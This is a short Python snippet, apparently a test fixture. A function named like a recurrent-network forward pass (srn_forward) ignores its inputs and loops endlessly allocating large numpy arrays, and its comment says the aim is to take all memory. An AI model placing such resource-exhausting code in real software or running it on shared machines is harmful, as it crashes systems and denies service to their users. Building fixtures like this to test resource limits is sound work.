# Takes all memory in arrays.
import numpy as np


def srn_forward(inputs, *args, **kwargs):
    kept = []
    while True:
        kept.append(np.zeros(1 << 24))
